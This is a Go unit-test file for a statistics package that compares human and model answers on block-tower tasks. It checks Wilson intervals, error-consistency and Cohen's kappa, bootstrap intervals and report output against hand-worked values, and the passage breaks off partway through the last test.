package analysis

import (
	"encoding/csv"
	"encoding/json"
	"math"
	"math/rand/v2"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/cubelab/cubelab/internal/task"
)

func near(a, b, tol float64) bool { return math.Abs(a-b) <= tol }

func TestWilsonReference(t *testing.T) {
	// DESIGN.md: 7/10 gives 0.396778 to 0.892209, 0/10 gives 0 to 0.277533.
	for _, c := range []struct {
		k, n   int
		lo, hi float64
	}{
		{7, 10, 0.396778, 0.892209},
		{0, 10, 0, 0.277533},
		{10, 10, 0.722467, 1}, // the mirror image of 0/10
	} {
		a := NewAccuracy(c.k, c.n)
		if !near(a.Lo, c.lo, 5e-7) || !near(a.Hi, c.hi, 5e-7) {
			t.Errorf("Wilson %d/%d = %.6f..%.6f, want %.6f..%.6f", c.k, c.n, a.Lo, a.Hi, c.lo, c.hi)
		}
		if a.Lo < 0 || a.Hi > 1 {
			t.Errorf("Wilson %d/%d outside [0,1]: %v %v", c.k, c.n, a.Lo, a.Hi)
		}
	}
	if a := NewAccuracy(0, 0); !math.IsNaN(a.P) || !math.IsNaN(a.Lo) {
		t.Errorf("0/0 should be unknown, got %+v", a)
	}
}

func TestErrorConsistencyReference(t *testing.T) {
	// DESIGN.md: N = 100, p1 = 0.84, p2 = 0.93, c_obs = 0.89 -> c_exp 0.7924, kappa 0.470135.
	k := ErrorConsistencyRates(100, 0.84, 0.93, 0.89)
	if !k.Defined || !near(k.Expected, 0.7924, 1e-12) || !near(k.Value, 0.470135, 5e-7) {
		t.Fatalf("got %+v", k)
	}
	// The same from answer vectors: 84 and 93 right, 89 trials alike.
	// Both right on x, 84-x only first, 93-x only second, both wrong 100-(177-x):
	// alike = x + 100 - 177 + x = 89 -> x = 83.
	truth := make([]Answer, 100)
	a := make([]Answer, 100)
	b := make([]Answer, 100)
	for i := range truth {
		truth[i], a[i], b[i] = Yes, Yes, Yes
		switch {
		case i < 83: // both right
		case i < 84: // only a right
			b[i] = No
		case i < 94: // only b right (10 items)
			a[i] = No
		default: // both wrong (6 items)
			a[i], b[i] = No, No
		}
	}
	if k2 := ErrorConsistency(a, b, truth); !near(k2.Value, k.Value, 1e-12) || k2.N != 100 {
		t.Errorf("from vectors %+v, from rates %+v", k2, k)
	}
}

func TestKappaUndefined(t *testing.T) {
	truth := []Answer{Yes, No, Yes, No}
	perfect := []Answer{Yes, No, Yes, No}
	allWrong := []Answer{No, Yes, No, Yes}
	allYes := []Answer{Yes, Yes, Yes, Yes}
	cases := []struct {
		name string
		k    Kappa
	}{
		{"both 100%", ErrorConsistency(perfect, perfect, truth)},
		{"both 0%", ErrorConsistency(allWrong, allWrong, truth)},
		{"nothing in common", ErrorConsistency([]Answer{Yes, 0, 0, 0}, []Answer{0, No, 0, 0}, truth)},
		{"cohen both always yes", CohenKappa(allYes, allYes)},
		{"rates c_exp = 1", ErrorConsistencyRates(10, 1, 1, 1)},
	}
	for _, c := range cases {
		if c.k.Defined || !math.IsNaN(c.k.Value) {
			t.Errorf("%s: want undefined, got %+v", c.name, c.k)
		}
	}
	// One perfect observer against an imperfect one is defined and exactly 0.
	if k := ErrorConsistency(perfect, []Answer{Yes, Yes, Yes, No}, truth); !k.Defined || k.Value != 0 {
		t.Errorf("perfect vs 75%%: %+v", k)
	}
	// Cohen: one observer always Yes against a balanced one: p_e = 0.5, p_o = 0.5 -> 0.
	if k := CohenKappa(allYes, truth); !k.Defined || k.Value != 0 {
		t.Errorf("cohen all yes vs truth: %+v", k)
	}
}

// handMatrix is the small data set worked on paper in TestHandWorked.
func handMatrix() *Matrix {
	Y, N := Yes, No
	items := []Item{
		{ID: "i1", Task: task.Tower, Size: 2, Truth: Y},
		{ID: "i2", Task: task.Tower, Size: 2, Truth: Y},
		{ID: "i3", Task: task.Tower, Size: 2, Truth: Y},
		{ID: "i4", Task: task.Tower, Size: 2, Truth: N},
		{ID: "i5", Task: task.Tower, Size: 2, Truth: N},
		{ID: "i6", Task: task.Tower, Size: 2, Truth: N},
		// Dropped by its flag: everyone "fails" it, which would change every number.
		{ID: "check", Task: task.Tower, Size: 2, Truth: Y, AttentionCheck: true},
	}
	return &Matrix{Items: items, Observers: []Observer{
		{ID: "A", Kind: Human, Answers: []Answer{Y, Y, N, N, N, Y, N}},
		{ID: "B", Kind: Human, Answers: []Answer{Y, N, Y, N, N, N, N}},
		{ID: "C", Kind: Human, Answers: []Answer{Y, Y, Y, N, N, N, N}},
		{ID: "D", Kind: Human, Answers: []Answer{Y, Y, Y, N, N, N, N}},
		// Rejected: dropped by its flag; it would pull every mean towards 1.
		{ID: "R", Kind: Human, Excluded: true, Answers: []Answer{Y, Y, N, N, N, Y, N}},
		{ID: "m-s2", Kind: Model, Model: "M", Seed: 2, Answers: []Answer{N, N, Y, N, N, N, N}},
		{ID: "m-s1", Kind: Model, Model: "M", Seed: 1, Answers: []Answer{Y, Y, Y, Y, N, N, N}},
	}}
}

// TestHandWorked checks every number of a six-item data set worked on paper.
//
//	truth      Y Y Y N N N
//	A          Y Y N N N Y   correct 1 1 0 1 1 0   4/6
//	B          Y N Y N N N   correct 1 0 1 1 1 1   5/6
//	C, D       Y Y Y N N N   correct 1 1 1 1 1 1   6/6
//	M seed 1   Y Y Y Y N N   correct 1 1 1 0 1 1   5/6
//	M seed 2   N N Y N N N   correct 0 0 1 1 1 1   4/6
//
// Human accuracy pooled: (4+5+6+6)/24 = 21/24 = 0.875; Wilson (z = 1.959964, n = 24):
// centre (0.875 + z²/48)/(1 + z²/24) = 0.955030/1.160061 = 0.823259, half width
// z/1.160061 * sqrt(0.875*0.125/24 + z²/2304) = 1.689536 * sqrt(0.0062246) = 0.133298
// -> 0.689961..0.956557 (to rounding; the test uses 1e-5).
//
// Human-human error consistency, c_exp = p1 p2 + (1-p1)(1-p2):
//
//	A-B: alike on i1, i4, i5 -> c_obs 1/2; c_exp = 2/3*5/6 + 1/3*1/6 = 11/18; kappa = (9/18-11/18)/(7/18) = -2/7
//	A-C, A-D: c_obs = 2/3 = c_exp -> 0;  B-C, B-D: c_obs = 5/6 = c_exp -> 0
//	C-D: both 100%, c_exp = 1 -> undefined, left out
//	mean = (-2/7 + 0 + 0 + 0 + 0)/5 = -2/35 = -0.057143, 5 pairs, 1 undefined
//
// Model-human, per seed then averaged over seeds per person:
//
//	s1 vs A: alike i1 i2 i5 -> 1/2; c_exp 11/18 -> -2/7
//	s1 vs B: alike i1 i3 i5 i6 -> 2/3; c_exp = 25/36 + 1/36 = 13/18 -> (12-13)/5 = -1/5
//	s2 vs A: alike i4 i5 -> 1/3; c_exp = 4/9 + 1/9 = 5/9 -> (3/9-5/9)/(4/9) = -1/2
//	s2 vs B: alike i2..i6 -> 5/6; c_exp 11/18 -> (15-11)/7 = 4/7
//	s1, s2 vs C or D: c_obs = c_exp -> 0
//	per person: A (-2/7 - 1/2)/2 = -11/28, B (-1/5 + 4/7)/2 = 13/70, C 0, D 0
//	mean = (-55/140 + 26/140)/4 = -29/560 = -0.051786
//
// Model-truth Cohen's kappa, chance from each side's Yes rate (truth 1/2 Yes):
//
//	s1: agree on 5/6; model Yes 4/6; p_e = 2/3*1/2 + 1/3*1/2 = 1/2 -> (5/6-1/2)/(1/2) = 2/3
//	s2: agree on 4/6; model Yes 1/6; p_e = 1/12 + 5/12 = 1/2 -> (2/3-1/2)/(1/2) = 1/3
//	mean over seeds = 1/2
//
// Model accuracy pooled over seeds: 9/12 = 0.75, Wilson 0.467695..0.911058.
func TestHandWorked(t *testing.T) {
	rep, err := Analyze(handMatrix(), Options{Resamples: 2000, Seed: 7})
	if err != nil {
		t.Fatal(err)
	}
	// Size 2, then the task over all sizes: the same items here, so the same numbers.
	if len(rep.Groups) != 2 || rep.Groups[0].Size != 2 || rep.Groups[1].Size != 0 {
		t.Fatalf("groups: %+v", rep.Groups)
	}
	for _, g := range rep.Groups {
		if g.Items != 6 || g.Humans != 4 {
			t.Errorf("items %d humans %d, want 6 and 4", g.Items, g.Humans)
		}
		checkAcc(t, "humans", g.HumanAccuracy, 21, 24, 0.689961, 0.956557)
		checkEst(t, "human-human", g.HumanHuman, -2.0/35, 5, 1)
		if len(g.Models) != 1 {
			t.Fatalf("models: %+v", g.Models)
		}
		m := g.Models[0]
		if m.Model != "M" || !reflect.DeepEqual(m.Seeds, []int64{1, 2}) {
			t.Errorf("model %q seeds %v", m.Model, m.Seeds)
		}
		checkAcc(t, "model", m.Accuracy, 9, 12, 0.467695, 0.911058)
		checkEst(t, "model-human", m.ModelHuman, -29.0/560, 4, 0)
		checkEst(t, "model-truth", m.ModelTruth, 0.5, 6, 0)
	}
}

func checkAcc(t *testing.T, what string, a Accuracy, k, n int, lo, hi float64) {
	t.Helper()
	if a.Correct != k || a.N != n || !near(a.Lo, lo, 1e-5) || !near(a.Hi, hi, 1e-5) {
		t.Errorf("%s accuracy %+v, want %d/%d %.6f..%.6f", what, a, k, n, lo, hi)
	}
}

func checkEst(t *testing.T, what string, e Estimate, mean float64, n, undef int) {
	t.Helper()
	if !e.Defined || !near(e.Mean, mean, 1e-12) || e.N != n || e.Undefined != undef {
		t.Errorf("%s: %+v, want mean %.6f over %d (%d undefined)", what, e, mean, n, undef)
	}
	if !(e.Lo <= e.Mean && e.Mean <= e.Hi) || e.Resamples == 0 {
		t.Errorf("%s: interval %.4f..%.4f does not hold the mean %.4f", what, e.Lo, e.Hi, e.Mean)
	}
}

func TestSizesSplit(t *testing.T) {
	// Two sizes; size 3 items make people perfect so human-human is undefined there.
	m := handMatrix()
	m.Items = append(m.Items, Item{ID: "j1", Task: task.Tower, Size: 3, Truth: Yes}, Item{ID: "j2", Task: task.Tower, Size: 3, Truth: No})
	for i := range m.Observers {
		m.Observers[i].Answers = append(m.Observers[i].Answers, Yes, No)
	}
	rep, err := Analyze(m, Options{Resamples: 500})
	if err != nil {
		t.Fatal(err)
	}
	var sizes []int
	for _, g := range rep.Groups {
		sizes = append(sizes, g.Size)
	}
	if !reflect.DeepEqual(sizes, []int{2, 3, 0}) {
		t.Fatalf("sizes %v", sizes)
	}
	g3 := rep.Groups[1]
	if g3.Items != 2 || g3.HumanAccuracy.Correct != 8 || g3.HumanHuman.Defined || g3.HumanHuman.Undefined != 6 {
		t.Errorf("size 3: %+v", g3)
	}
	if !math.IsNaN(g3.HumanHuman.Mean) {
		t.Errorf("undefined mean must be NaN, got %v", g3.HumanHuman.Mean)
	}
	if all := rep.Groups[2]; all.Items != 8 || all.HumanAccuracy.N != 32 {
		t.Errorf("all sizes: %+v", all)
	}
}

func TestBootstrapDeterministicAcrossWorkers(t *testing.T) {
	m := randomMatrix(30, 40, 3, 1)
	a, err := Analyze(m, Options{Resamples: 1200, Seed: 42, Workers: 1})
	if err != nil {
		t.Fatal(err)
	}
	b, _ := Analyze(m, Options{Resamples: 1200, Seed: 42, Workers: 4})
	if !reflect.DeepEqual(a, b) {
		t.Error("results depend on the number of workers")
	}
	c, _ := Analyze(m, Options{Resamples: 1200, Seed: 43, Workers: 4})
	if reflect.DeepEqual(a.Groups[0].HumanHuman, c.Groups[0].HumanHuman) {
		t.Error("a different seed gave the same interval")
	}
}

func TestBootstrapIntervalWidth(t *testing.T) {
	// The percentile interval of a mean of n values with standard deviation s
	// should be close to mean ± 1.96 s/sqrt(n).
	r := rand.New(rand.NewPCG(1, 2))
	vals := make([]float64, 400)
	var sum, sq float64
	for i := range vals {
		vals[i] = r.NormFloat64()
		sum += vals[i]
	}
	mean := sum / float64(len(vals))
	for _, v := range vals {
		sq += (v - mean) * (v - mean)
	}
	se := math.Sqrt(sq/float64(len(vals))) / math.Sqrt(float64(len(vals)))
	var got Estimate
	jobs, fin := meanJobs([]meanSpec{{key: 1, units: vals, set: func(e Estimate) { got = e }}}, 10000)
	runJobs(jobs, 9, 2)
	fin[0]()
	if !near(got.Mean, mean, 1e-12) || !near(got.Hi-got.Lo, 2*1.96*se, 0.1*2*1.96*se) || !near((got.Hi+got.Lo)/2, mean, 0.1*se) {
		t.Errorf("interval %.4f..%.4f around %.4f, expected width %.4f", got.Lo, got.Hi, mean, 2*1.96*se)
	}
	// Constant values have a zero-width interval.
	jobs, fin = meanJobs([]meanSpec{{key: 1, units: []float64{0.3, 0.3, 0.3}, set: func(e Estimate) { got = e }}}, 100)
	runJobs(jobs, 9, 1)
	fin[0]()
	if !near(got.Lo, 0.3, 1e-15) || !near(got.Hi, 0.3, 1e-15) {
		t.Errorf("constant: %+v", got)
	}
}

func TestDrawerUniform(t *testing.T) {
	d := newDrawer(3, 0)
	const n, draws = 7, 700000
	var counts [n]int
	for range draws {
		counts[d.index(n)]++
	}
	// Chi-square with 6 degrees of freedom; 22.46 is the 0.999 quantile.
	var chi float64
	for _, c := range counts {
		e := float64(draws) / n
		chi += (float64(c) - e) * (float64(c) - e) / e
	}
	if chi > 22.46 {
		t.Errorf("chi-square %.1f for counts %v", chi, counts)
	}
}

func TestBitsMatchSlices(t *testing.T) {
	m := randomMatrix(6, 150, 1, 5)
	nItems := len(m.Items)
	mask := newBitset(nItems)
	for j := range nItems {
		if j%3 != 0 {
			mask.set(j)
		}
	}
	truth := make([]Answer, nItems)
	for j, it := range m.Items {
		if mask.has(j) {
			truth[j] = it.Truth
		}
	}
	toBits := func(o Observer) observerBits {
		b := observerBits{newBitset(nItems), newBitset(nItems), newBitset(nItems)}
		for j, a := range o.Answers {
			if a != Missing {
				b.answered.set(j)
				if a == m.Items[j].Truth {
					b.correct.set(j)
				}
			}
		}
		return b
	}
	for i := 1; i < len(m.Observers); i++ {
		a, b := m.Observers[0], m.Observers[i]
		want := ErrorConsistency(a.Answers, b.Answers, truth)
		got := errorConsistencyBits(toBits(a), toBits(b), mask)
		if want.N != got.N || !near(want.Value, got.Value, 1e-12) {
			t.Errorf("pair %d: slices %+v, bits %+v", i, want, got)
		}
	}
}

func TestValidate(t *testing.T) {
	m := handMatrix()
	m.Observers[0].Answers = m.Observers[0].Answers[:3]
	if _, err := Analyze(m, Options{}); err == nil || !strings.Contains(err.Error(), "answers for") {
		t.Errorf("short answers: %v", err)
	}
	m = handMatrix()
	m.Items[1].Truth = Missing
	if _, err := Analyze(m, Options{}); err == nil {
		t.Error("missing truth accepted")
	}
	m = handMatrix()
	m.Observers[5].Seed = 1 // now two runs of M with seed 1
	if _, err := Analyze(m, Options{}); err == nil || !strings.Contains(err.Error(), "twice") {
		t.Errorf("duplicate run: %v", err)
	}
	if _, err := ParseAnswer("yes"); err == nil {
		t.Error(`ParseAnswer("yes") accepted`)
	}
}

func TestBuilder(t *testing.T) {
	m := NewMatrix([]Item{{ID: "a", Task: task.Pyramid, Size: 3, Truth: Yes}})
	i := m.AddObserver(Observer{ID: "p", Kind: Human})
	if err := m.Set(i, "a", Yes); err != nil {
		t.Fatal(err)
	}
	if err := m.Validate(); err != nil || m.Observers[0].Answers[0] != Yes {
		t.Fatal(err)
	}
	if err := m.Set(i, "zz", No); err == nil {
		t.Error("unknown item accepted")
	}
	if err := m.Set(5, "a", No); err == nil {
		t.Error("unknown observer accepted")
	}
}

// randomMatrix builds people who are right with probability 0.6-0.95 and models
// of the same kind, a few answers missing, items of six tower sizes.
func randomMatrix(people, items, runs int, seed uint64) *Matrix {
	r := rand.New(rand.NewPCG(seed, 99))
	its := make([]Item, items)
	for j := range its {
		its[j] = Item{ID: "s" + itoa(j), Task: task.Tower, Size: 2 + j%6, Truth: Answer(1 + r.IntN(2))}
	}
	m := NewMatrix(its)
	add := func(o Observer) {
		i := m.AddObserver(o)
		acc := 0.6 + 0.35*r.Float64()
		for j, it := range its {
			switch {
			case r.Float64() < 0.01:
			case r.Float64() < acc:
				m.Observers[i].Answers[j] = it.Truth
			default:
				m.Observers[i].Answers[j] = 3 - it.Truth
			}
		}
	}
	for p := range people {
		add(Observer{ID: "p" + itoa(p), Kind: Human})
	}
	for k := range runs {
		add(Observer{ID: "run" + itoa(k), Kind: Model, Model: "model" + itoa(k), Seed: 1})
	}
	return m
}

func itoa(i int) string {
	if i < 10 {
		return string(rune('0' + i))
	}
	return itoa(i/10) + string(rune('0'+i%10))
}

func TestIndicesUniform(t *testing.T) {
	// Both paths: four 16-bit draws per output (n = 5) and 32-bit draws (n = 70000,
	// bucketed by 10,000).
	for _, c := range []struct{ n, buckets uint32 }{{5, 5}, {70000, 7}} {
		d := newDrawer(11, 1)
		out := make([]uint32, 350003)
		d.indices(c.n, out)
		counts := make([]float64, c.buckets)
		for _, v := range out {
			if v >= c.n {
				t.Fatalf("n=%d: drew %d", c.n, v)
			}
			counts[v*c.buckets/c.n]++
		}
		var chi float64
		e := float64(len(out)) / float64(c.buckets)
		for _, k := range counts {
			chi += (k - e) * (k - e) / e
		}
		// 0.999 quantiles of chi-square with 4 and 6 degrees of freedom.
		if limit := map[uint32]float64{5: 18.47, 7: 22.46}[c.buckets]; chi > limit {
			t.Errorf("n=%d: chi-square %.1f, counts %v", c.n, chi, counts)
		}
	}
}

func TestQuantileMatchesSort(t *testing.T) {
	r := rand.New(rand.NewPCG(5, 6))
	for _, n := range []int{1, 2, 3, 10, 41, 1000, 10000} {
		a := make([]float64, n)
		for i := range a {
			a[i] = math.Round(r.NormFloat64()*4) / 4 // ties on purpose
		}
		sorted := slices.Clone(a)
		slices.Sort(sorted)
		for _, q := range []float64{0, 0.025, 0.5, 0.975, 1} {
			pos := q * float64(n-1)
			i := int(pos)
			want := sorted[i]
			if i+1 < n {
				want += (pos - float64(i)) * (sorted[i+1] - sorted[i])
			}
			if got := quantile(slices.Clone(a), q); !near(got, want, 1e-12) {
				t.Errorf("n=%d q=%v: %v, want %v", n, q, got, want)
			}
		}
	}
}

// TestQuantilePairMatchesQuantile: the tails found through a sample give
// the very values of selecting in all of them, with ties, in order, in
// reverse order, all equal, and with a tail of equal values.
func TestQuantilePairMatchesQuantile(t *testing.T) {
	r := rand.New(rand.NewPCG(7, 8))
	for _, n := range []int{2047, 2048, 10000, 10001, 30000} {
		cases := map[string][]float64{}
		normal := make([]float64, n)
		for i := range normal {
			normal[i] = r.NormFloat64()
		}
		cases["normal"] = normal
		ties := make([]float64, n)
		for i := range ties {
			ties[i] = math.Round(r.NormFloat64()*8) / 8
		}
		cases["ties"] = ties
		sorted := slices.Clone(normal)
		slices.Sort(sorted)
		cases["sorted"] = sorted
		cases["reversed"] = slices.Clone(sorted)
		slices.Reverse(cases["reversed"])
		cases["equal"] = make([]float64, n)
		heavy := slices.Clone(normal)
		for i := range heavy {
			if i%10 == 0 {
				heavy[i] = -5
			}
		}
		cases["low tail equal"] = heavy
		for name, a := range cases {
			for _, q := range [][2]float64{{0.025, 0.975}, {0.005, 0.995}, {0.1, 0.9}} {
				lo, hi := quantilePair(slices.Clone(a), q[0], q[1])
				wantLo, wantHi := quantile(slices.Clone(a), q[0]), quantile(slices.Clone(a), q[1])
				if math.Float64bits(lo) != math.Float64bits(wantLo) || math.Float64bits(hi) != math.Float64bits(wantHi) {
					t.Errorf("n=%d %s %v: %v %v, want %v %v", n, name, q, lo, hi, wantLo, wantHi)
				}
			}
		}
	}
}

func TestReportOutputs(t *testing.T) {
	m := handMatrix()
	// Size 3 with perfect people: human-human undefined there.
	m.Items = append(m.Items, Item{ID: "j1", Task: task.Tower, Size: 3, Truth: Yes})
	for i := range m.Observers {
		m.Observers[i].Answers = append(m.Observers[i].Answers, Yes)
	}
	rep, err := Analyze(m, Options{Resamples: 300, Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	var csvOut strings.Builder
	if err := rep.WriteCSV(&csvOut); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(csvOut.String()), "\n")
	// Header + 3 groups x (3 people rows + 3 rows for the one model).
	if len(lines) != 1+3*6 {
		t.Fatalf("%d lines:\n%s", len(lines), csvOut.String())
	}
	if !strings.HasPrefix(lines[2], "tower,2,people,,,,,,kappa_human_human,-0.057143,") {
		t.Errorf("line 3: %s", lines[2])
	}
	if !strings.HasPrefix(lines[8], "tower,3,people,,,,,,kappa_human_human,,,,0,,6,") {
		t.Errorf("undefined kappa must be empty, not 0: %s", lines[8])
	}
	if !strings.HasPrefix(lines[3], "tower,2,people,,,,,,kappa_human_human_people,-0.057143,") {
		t.Errorf("the bootstrap over people has the same mean as over pairs: %s", lines[3])
	}
	js, err := json.Marshal(rep)
	if err != nil {
		t.Fatal(err)
	}
	var back struct {
		Groups []struct {
			HumanHuman struct {
				Mean    *float64 `json:"mean"`
				Defined bool     `json:"defined"`
			} `json:"human_human"`
		} `json:"groups"`
	}
	if err := json.Unmarshal(js, &back); err != nil {
		t.Fatal(err)
	}
	if back.Groups[1].HumanHuman.Mean != nil || back.Groups[1].HumanHuman.Defined || back.Groups[0].HumanHuman.Mean == nil {
		t.Errorf("JSON: %s", js)
	}
}

// TestAnalyzeMatchesNaive recomputes every point estimate of a random data set
// (missing answers, two seeds per model, six sizes) with the slice functions.
func TestAnalyzeMatchesNaive(t *testing.T) {
	m := randomMatrix(12, 60, 4, 8)
	for i := range m.Observers {
		if o := &m.Observers[i]; o.Kind == Model {
			o.Model = "model" + itoa(i%2) // two models, two seeds each
			o.Seed = int64(i / 2)
		}
	}
	rep, err := Analyze(m, Options{Resamples: 100})
	if err != nil {
		t.Fatal(err)
	}
	for _, g := range rep.Groups {
		in := func(j int) bool { return g.Size == 0 || m.Items[j].Size == g.Size }
		restrict := func(a []Answer) []Answer {
			out := make([]Answer, len(a))
			for j := range a {
				if in(j) {
					out[j] = a[j]
				}
			}
			return out
		}
		truth := make([]Answer, len(m.Items))
		for j, it := range m.Items {
			truth[j] = it.Truth
		}
		truth = restrict(truth)
		var humans [][]Answer
		byModel := map[string][][]Answer{}
		for _, o := range m.Observers {
			if o.Kind == Human {
				humans = append(humans, restrict(o.Answers))
			} else {
				byModel[o.Model] = append(byModel[o.Model], restrict(o.Answers))
			}
		}
		mean := func(vs []float64) float64 {
			s := 0.0
			for _, v := range vs {
				s += v
			}
			return s / float64(len(vs))
		}
		var hh []float64
		for a := range humans {
			for b := a + 1; b < len(humans); b++ {
				if k := ErrorConsistency(humans[a], humans[b], truth); k.Defined {
					hh = append(hh, k.Value)
				}
			}
		}
		if !near(g.HumanHuman.Mean, mean(hh), 1e-12) || g.HumanHuman.N != len(hh) {
			t.Errorf("size %d human-human %v over %d, naive %v over %d", g.Size, g.HumanHuman.Mean, g.HumanHuman.N, mean(hh), len(hh))
		}
		for _, mr := range g.Models {
			seeds := byModel[mr.Model]
			var perHuman []float64
			for _, h := range humans {
				var ks []float64
				for _, s := range seeds {
					if k := ErrorConsistency(s, h, truth); k.Defined {
						ks = append(ks, k.Value)
					}
				}
				if len(ks) > 0 {
					perHuman = append(perHuman, mean(ks))
				}
			}
			var gt []float64
			correct, n := 0, 0
			for _, s := range seeds {
				if k := CohenKappa(s, truth); k.Defined {
					gt = append(gt, k.Value)
				}
				for j := range s {
					if s[j] != Missing && truth[j] != Missing {
						n++
						if s[j] == truth[j] {
							correct++
						}
					}
				}
			}
			if !near(mr.ModelHuman.Mean, mean(perHuman), 1e-12) || !near(mr.ModelTruth.Mean, mean(gt), 1e-12) ||
				mr.Accuracy.Correct != correct || mr.Accuracy.N != n || len(mr.Seeds) != 2 {
				t.Errorf("size %d %s: %+v, naive model-human %v truth %v accuracy %d/%d", g.Size, mr.Model, mr, mean(perHuman), mean(gt), correct, n)
			}
		}
	}
}

func TestXoshiroReference(t *testing.T) {
	// The first outputs of xoshiro256** from the state {1, 2, 3, 4}, as the
	// reference C code gives them.
	x := xoshiro{1, 2, 3, 4}
	for i, want := range []uint64{11520, 0, 1509978240, 1215971899390074240} {
		if got := x.next(); got != want {
			t.Errorf("output %d: %d, want %d", i, got, want)
		}
	}
}

// TestFusedMeansMatchReference checks the fused bootstrap of up to eight
// means against the plain loop: the same draws in the same order, each mean
// alone or in company, defined units counted (integer values, so exact sums).
func TestFusedMeansMatchReference(t *testing.T) {
	for _, n := range []int{1, 3, 7, 100, 4950, 70000} {
		for _, w := range []int{1, 3, 8} {
			units := make([][]float64, w)
			for b := range units {
				units[b] = make([]float64, n)
				for i := range units[b] {
					units[b][i] = float64(i * (b + 1))
					if b == 1 && i%5 == 2 {
						units[b][i] = math.NaN()
					}
				}
			}
			const resamples = 3
			jb := fusedMeanJob(units, resamples)
			jb.out = make([]float64, resamples*w)
			fast, slow := newDrawer(4, uint64(n)), newDrawer(4, uint64(n))
			jb.fill(fast, 0, resamples, jb.out)
			for b := range w {
				alone := fusedMeanJob(units[b:b+1], resamples)
				alone.out = make([]float64, resamples)
				alone.fill(newDrawer(4, uint64(n)), 0, resamples, alone.out)
				for r := range resamples {
					if x, y := alone.out[r], jb.out[b*resamples+r]; math.Float64bits(x) != math.Float64bits(y) {
						t.Fatalf("n=%d w=%d mean %d resample %d: alone %v, fused %v", n, w, b, r, x, y)
					}
				}
			}
			drawn := make([]uint32, n)
			for r := range resamples {
				// The reference: lanes of four 16-bit draws, a rejected lane
				// skipped, then one draw at a time.
				i := 0
				if n <= 1<<16 {
					tr := uint32((1 << 16) % n)
					for i+4 <= n {
						m0, m1, m2, m3 := lanes(slow.x.next(), uint32(n))
						for _, m := range [4]uint32{m0, m1, m2, m3} {
							if m&0xffff >= tr {
								drawn[i] = m >> 16
								i++
							}
						}
					}
				}
				for ; i < n; i++ {
					drawn[i] = slow.index(uint32(n))
				}
				for b := range w {
					var sum float64
					var k int
					for _, j := range drawn {
						if v := units[b][j]; !math.IsNaN(v) {
							sum += v
							k++
						}
					}
					if got := jb.out[b*resamples+r]; math.Abs(got*float64(k)-sum) > 0.01*float64(b+1) {
						t.Fatalf("n=%d w=%d mean %d resample %d: %v, want %v", n, w, b, r, got, sum/float64(k))
					}
				}
			}
		}
	}
}

func TestEdgeCases(t *testing.T) {
	items := []Item{
		{ID: "t", Task: task.Tower, Size: 2, Truth: Yes},
		{ID: "p", Task: task.Pyramid, Size: 3, Truth: No},
		{ID: "r", Task: task.PyramidRemoved, Size: 3, Truth: Yes, AttentionCheck: true},
	}
	cases := map[string][]Observer{
		"nobody":      nil,
		"one person":  {{ID: "a", Kind: Human, Answers: []Answer{Yes, Yes, Yes}}},
		"only models": {{ID: "m", Kind: Model, Model: "m", Answers: []Answer{No, No, No}}},
		"all missing": {{ID: "a", Kind: Human, Answers: []Answer{0, 0, Yes}}, {ID: "m", Kind: Model, Model: "m", Answers: []Answer{0, 0, 0}}},
	}
	for name, obs := range cases {
		t.Run(name, func(t *testing.T) {
			rep, err := Analyze(&Matrix{Items: items, Observers: obs}, Options{Resamples: 50})
			if err != nil {
				t.Fatal(err)
			}
			// The attention-check task has no groups at all.
			var tasks []task.Domain
			for _, g := range rep.Groups {
				tasks = append(tasks, g.Task)
				if g.HumanHuman.Defined {
					t.Errorf("%s: human-human defined with fewer than two people", g.Task)
				}
				for _, m := range g.Models {
					if m.ModelHuman.Defined {
						t.Errorf("%s: model-human defined without people", g.Task)
					}
				}
			}
			if !slices.Equal(tasks, []task.Domain{task.Tower, task.Tower, task.Pyramid, task.Pyramid}) {
				t.Errorf("groups %v", tasks)
			}
			if _, err := json.Marshal(rep); err != nil {
				t.Errorf("JSON: %v", err)
			}
		})
	}
}

// subMatrix keeps the items and observers a narrower analysis would load.
func subMatrix(m *Matrix, keepItem func(Item) bool, keepObserver func(Observer) bool) *Matrix {
	var items []Item
	var cols []int
	for j, it := range m.Items {
		if keepItem(it) {
			items = append(items, it)
			cols = append(cols, j)
		}
	}
	sub := NewMatrix(items)
	for _, o := range m.Observers {
		if !keepObserver(o) {
			continue
		}
		i := sub.AddObserver(o)
		for k, j := range cols {
			sub.Observers[i].Answers[k] = o.Answers[j]
		}
	}
	return sub
}

// sameEstimate compares bit for bit, NaN (undefined) included.
func sameEstimate(a, b Estimate) bool {
	bitsEq := func(x, y float64) bool { return math.Float64bits(x) == math.Float64bits(y) }
	return bitsEq(a.Mean, b.Mean) && bitsEq(a.Lo, b.Lo) && bitsEq(a.Hi, b.Hi) && a.Defined == b.Defined &&
		a.N == b.N && a.Undefined == b.Undefined && a.Resamples == b.Resamples
}

// checkSubset requires every cell of part to be bit-identical to the same cell
// (task, size, model, condition) of full.
func checkSubset(t *testing.T, what string, full, part *Report) {
	t.Helper()
	cells := 0
	for _, pg := range part.Groups {
		i := slices.IndexFunc(full.Groups, func(g Group) bool { return g.Task == pg.Task && g.Size == pg.Size })
		if i < 0 {
			t.Errorf("%s: group %s/%d not in the full analysis", what, pg.Task, pg.Size)
			continue
		}
		fg := full.Groups[i]
		if !sameEstimate(pg.HumanHuman, fg.HumanHuman) {
			t.Errorf("%s: %s/%d human-human %+v, full analysis %+v", what, pg.Task, pg.Size, pg.HumanHuman, fg.HumanHuman)
		}
		cells++
		for _, pm := range pg.Models {
			k := slices.IndexFunc(fg.Models, func(m ModelResult) bool { return m.Model == pm.Model && m.Condition == pm.Condition })
			if k < 0 {
				t.Errorf("%s: %s/%d model %s/%s not in the full analysis", what, pg.Task, pg.Size, pm.Model, pm.Condition)
				continue
			}
			fm := fg.Models[k]
			if !sameEstimate(pm.ModelHuman, fm.ModelHuman) || !sameEstimate(pm.ModelTruth, fm.ModelTruth) {
				t.Errorf("%s: %s/%d %s/%s model-human %+v truth %+v, full analysis %+v %+v", what, pg.Task, pg.Size,
					pm.Model, pm.Condition, pm.ModelHuman, pm.ModelTruth, fm.ModelHuman, fm.ModelTruth)
			}
			cells += 2
		}
	}
	if cells == 0 {
		t.Errorf("%s: nothing compared", what)
	}
}

// TestBootstrapSubsetsMatchFull: the kappa figure asks for ByTask, a download
// may cover one condition or one model; each must show the intervals of the
// full report for the same cells, so streams may not depend on which other
// bootstraps run in the same analysis.
func TestBootstrapSubsetsMatchFull(t *testing.T) {
	m := randomMatrix(25, 72, 6, 17)
